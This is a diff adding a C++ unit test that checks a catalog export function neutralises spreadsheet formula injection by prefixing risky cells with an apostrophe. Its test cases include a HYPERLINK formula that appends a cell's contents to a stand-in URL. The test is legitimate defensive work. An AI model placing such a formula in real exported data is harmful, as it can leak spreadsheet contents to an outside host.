@@ -98,6 +98,36 @@ TEST_F(ExportWriter, RefusesToWriteOverTheProgramsOwnFiles) {
                                 ExportFormat::Comma, DefaultExportFields(), rows_));
 }
 
+TEST(ExportValue, WhatASpreadsheetWouldRunGetsAnApostrophe) {
+    const std::pair<std::string, std::string> cases[] = {
+        {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=HYPERLINK(\"http://x\"&A1,\"x\")"},
+        {"+1+1", "'+1+1"},
+        {"-2*3", "'-2*3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "'\r=1"},
+        {"-", "'-"},
+        {"+.5", "'+.5"},
+        {"1.", "1."},
+        {"-42", "-42"},
+        {"+3.25", "+3.25"},
+        {"823 DAH", "823 DAH"},
+        {"a=b", "a=b"},
+        {"", ""},
+    };
+    for (const auto& [value, cell] : cases) {
+        std::string tab;
+        AppendExportValue(tab, value, ExportFormat::Tab);
+        EXPECT_EQ(tab, "\t" + cell) << value;
+        std::string comma;
+        AppendExportValue(comma, value, ExportFormat::Comma);
+        std::string quoted;
+        for (const char c : cell)
+            quoted.append(c == '"' ? 2 : 1, c);
+        EXPECT_EQ(comma, ",\"" + quoted + "\"") << value;
+    }
+}
+
 TEST(ExportFields, HeaderOfTheIdColumnIsId) {
     EXPECT_EQ(ExportLine(nullptr, DefaultExportFields(), ExportFormat::Comma),
               "\"Id\",\"Title\",\"Author\",\"Levels\",\"Library call number\"");
